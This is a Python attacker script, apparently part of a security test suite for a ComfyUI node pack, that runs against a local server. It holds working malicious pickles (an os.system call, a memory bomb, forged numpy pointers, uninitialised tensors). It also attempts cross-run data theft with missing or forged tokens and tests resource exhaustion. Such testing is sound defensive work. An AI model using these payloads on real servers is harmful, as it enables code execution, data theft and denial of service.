"""An attacker, run as a process of its own against a launched ComfyUI server with the node pack.

    python _attacker.py MODE URL [ARG...]   ->  one JSON line on stdout: what each attack got

It holds no credentials but what it finds or makes itself. Modes:

- ``payloads URL MARKER``: creates a run of its own (any local client may) and PUTs frames that
  broke the old restricted unpickler: pickles in the old frame and as the metadata of the new
  one (code execution writing MARKER, a numpy object array with forged pointers, uninitialised
  tensors, a bytearray of 2 GiB in 68 bytes, Tensor.set_ with attacker sizes), then frames that
  lie about their sizes.
- ``steal URL OUT_KEY``: finds the live run ids in ComfyUI's /queue and /history and tries to
  read, write, delete and list them over the run routes (no token, a forged token), then queues
  its own prompt that reads the run's value and overwrites OUT_KEY.
- ``exhaust URL``: runs until refused, budgets, a frame that announces 1 TiB in 28 bytes, a
  body larger than the limit, a chunked body.
"""

from __future__ import annotations

import json
import os
import pickle
import struct
import sys
import time
import uuid

import requests

T = 10  # seconds per request


def old_frame(meta: bytes, sizes=()) -> bytes:
    return struct.pack("<4sHHIQ", b"DCFV", 1, 0, len(sizes), len(meta)) + b"".join(
        struct.pack("<Q", n) for n in sizes) + meta


def new_frame(meta: bytes, sizes=(), body=b"") -> bytes:
    return struct.pack("<4sHHIQ", b"DCFD", 2, 0, len(sizes), len(meta)) + b"".join(
        struct.pack("<Q", n) for n in sizes) + meta + body


class _System:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def pickles(marker: str) -> dict[str, bytes]:
    """Pickle streams hand-written as an attacker would, no imports of the targets needed."""
    out = {"os.system": pickle.dumps(_System(marker), protocol=2)}
    # bytearray(2 GiB) from 68 bytes: builtins.bytearray with an int argument
    out["bytearray_bomb"] = b"\x80\x02cbuiltins\nbytearray\nq\x00J\x00\x00\x00\x80\x85q\x01Rq\x02."
    # numpy.core.multiarray._reconstruct(ndarray, (0,), b'b') without BUILD: uninitialised memory
    out["np_reconstruct"] = (b"\x80\x02cnumpy.core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\x00\x85C\x01b"
                             b"\x87R.")
    # numpy object array whose element pointers are attacker bytes
    out["np_object_array"] = (b"\x80\x02cnumpy.core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\x00\x85C\x01b"
                              b"\x87R(K\x01K\x02\x85cnumpy\ndtype\nX\x02\x00\x00\x00O8K\x00K\x01\x87R(K\x03X\x01"
                              b"\x00\x00\x00|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?tb\x89C\x10AAAAAAAABBBBBBBBtb.")
    # torch.empty((1 << 20,)): another run's pixels or heap pointers
    out["torch_empty"] = b"\x80\x02ctorch\nempty\nJ\x00\x00\x10\x00\x85\x85R."
    return out


def _post_run(url: str, **kw) -> requests.Response:
    """Create a run, with the server secret when this attacker was given one (a rogue client)."""
    secret = os.environ.get("DISCOMFORT_SERVER_SECRET")
    head = {"X-Discomfort-Secret": secret} if secret else {}
    return requests.post(f"{url}/discomfort/runs", json=kw, headers=head, timeout=T)


def payloads(url: str, marker: str) -> dict:
    r = _post_run(url)
    r.raise_for_status()
    run = r.json()
    head = {"X-Discomfort-Token": run["token"]}
    base = f"{url}/discomfort/runs/{run['run_id']}/values"
    out: dict = {"created": r.status_code}
    for name, meta in pickles(marker).items():
        out[f"old:{name}"] = requests.put(f"{base}/{name}", data=old_frame(meta), headers=head, timeout=T).status_code
        resp = requests.put(f"{base}/{name}", data=new_frame(meta), headers=head, timeout=T)
        out[f"new:{name}"] = resp.status_code
        out[f"new:{name}:type"] = resp.json().get("type")
    # A valid description whose bytes lie: a bool tensor of byte 7, a tensor larger than its buffer
    desc = {"format": 1, "value": {"t": "tensor", "dtype": "bool", "shape": [4], "buf": 0, "device": "cpu",
                                   "grad": False}}
    meta = json.dumps(desc).encode()
    out["bool_bytes"] = requests.put(f"{base}/b", data=new_frame(meta, [4], b"\x07\x00\x01\x00"), headers=head,
                                     timeout=T).status_code
    desc["value"]["shape"] = [1 << 40]
    meta = json.dumps(desc).encode()
    out["shape_over_buffer"] = requests.put(f"{base}/b", data=new_frame(meta, [4], b"\x00" * 4), headers=head,
                                            timeout=T).status_code
    out["keys_after"] = requests.get(f"{base}", headers=head, timeout=T).json()["keys"]
    requests.delete(f"{url}/discomfort/runs/{run['run_id']}", headers=head, timeout=T)
    return out


def live_run_ids(url: str) -> set[str]:
    """Run ids as anyone who can reach ComfyUI's own API reads them from its queue and history."""
    found: set[str] = set()
    queue = requests.get(f"{url}/queue", timeout=T).json()
    items = queue.get("queue_running", []) + queue.get("queue_pending", [])
    prompts = [item[2] for item in items]
    prompts += [h["prompt"][2] for h in requests.get(f"{url}/history", timeout=T).json().values()]
    for prompt in prompts:
        for node in prompt.values():
            rid = node.get("inputs", {}).get("run_id")
            if isinstance(rid, str) and rid:
                found.add(rid)
    return found


def steal(url: str, out_key: str) -> dict:
    out: dict = {}
    run_ids = sorted(live_run_ids(url))
    out["run_ids"] = run_ids
    routes = []
    for rid in run_ids:
        base = f"{url}/discomfort/runs/{rid}"
        for token in (None, "A" * 43):
            head = {} if token is None else {"X-Discomfort-Token": token}
            tag = "none" if token is None else "forged"
            routes += [
                (f"get:{tag}", requests.get(f"{base}/values/image", headers=head, timeout=T).status_code),
                (f"put:{tag}", requests.put(f"{base}/values/{out_key}", data=new_frame(b"{}"), headers=head,
                                            timeout=T).status_code),
                (f"delete:{tag}", requests.delete(f"{base}/values/image", headers=head, timeout=T).status_code),
                (f"keys:{tag}", requests.get(f"{base}/values", headers=head, timeout=T).status_code),
                (f"allow:{tag}", requests.post(f"{base}/prompts", json={"digest": "0" * 64}, headers=head,
                                               timeout=T).status_code),
            ]
    out["routes"] = routes
    # ComfyUI's own API: queue a prompt that reads the run and overwrites one of its keys.
    ids = []
    for rid in run_ids:
        prompt = {
            "1": {"class_type": "DiscomfortDataLoader", "inputs": {"run_id": rid, "unique_id": "image"}},
            "2": {"class_type": "DiscomfortPort", "inputs": {"unique_id": out_key, "input_data": ["1", 0],
                                                             "run_id": rid, "port_mode": "OUTPUT"}},
        }
        r = requests.post(f"{url}/prompt", json={"prompt": prompt, "client_id": uuid.uuid4().hex}, timeout=T)
        out.setdefault("queued", []).append(r.status_code)
        if r.status_code == 200:
            ids.append(r.json()["prompt_id"])
    print(json.dumps({"queued": ids}), flush=True)  # the test releases the victim's gate now
    sys.stdin.readline()  # ... and says when the victim has moved on
    errors = []
    for pid in ids:
        for _ in range(600):  # its prompt runs after the victim's current one
            h = requests.get(f"{url}/history/{pid}", timeout=T).json().get(pid)
            if h and h.get("status", {}).get("completed") is not None:
                break
            time.sleep(0.05)
        msgs = (h or {}).get("status", {}).get("messages", [])
        errors += [m[1].get("exception_type") for m in msgs if m[0] == "execution_error"]
    out["prompt_errors"] = errors
    return out


def exhaust(url: str) -> dict:
    out: dict = {}
    made, statuses = [], []
    for _ in range(12):
        r = _post_run(url)
        statuses.append(r.status_code)
        if r.status_code != 200:
            out["refusal"] = r.json()
            break
        made.append(r.json())
    out["create_statuses"] = statuses
    for run in made:
        requests.delete(f"{url}/discomfort/runs/{run['run_id']}", headers={"X-Discomfort-Token": run["token"]},
                        timeout=T)
    r = _post_run(url, ram_budget="1T")
    out["budget_1T"] = r.status_code, r.json().get("ram_budget")
    run = r.json()
    head = {"X-Discomfort-Token": run["token"]}
    for bad in (1e300, "lots", -5, True, [1]):
        out[f"budget:{bad!r}"] = _post_run(url, ram_budget=bad).status_code
    base = f"{url}/discomfort/runs/{run['run_id']}/values"
    desc = json.dumps({"format": 1, "value": {"t": "bytes", "buf": 0, "mutable": False}}).encode()
    head28 = new_frame(desc, [1 << 40])
    out["announce_1TiB"] = requests.put(f"{base}/big", data=head28, headers=head, timeout=T).status_code
    out["over_max_value"] = requests.put(f"{base}/big", data=new_frame(desc, [8 << 20], b"\x00" * (8 << 20)),
                                         headers=head, timeout=T).status_code
    out["over_run_bytes"] = [requests.put(f"{base}/k{i}", data=new_frame(desc, [3 << 20], b"\x00" * (3 << 20)),
                                          headers=head, timeout=T).status_code for i in range(4)]

    def chunks():
        yield new_frame(desc, [4], b"abcd")

    out["chunked"] = requests.put(f"{base}/c", data=chunks(), headers=head, timeout=T).status_code
    secret = os.environ.get("DISCOMFORT_SERVER_SECRET", "")
    out["big_create_body"] = requests.post(f"{url}/discomfort/runs", data=b"{" + b" " * 100_000 + b"}",
                                           headers={"X-Discomfort-Secret": secret}, timeout=T).status_code
    requests.delete(f"{url}/discomfort/runs/{run['run_id']}", headers=head, timeout=T)
    return out


if __name__ == "__main__":
    mode, url, *rest = sys.argv[1:]
    result = {"payloads": payloads, "steal": steal, "exhaust": exhaust}[mode](url, *rest)
    print(json.dumps(result), flush=True)
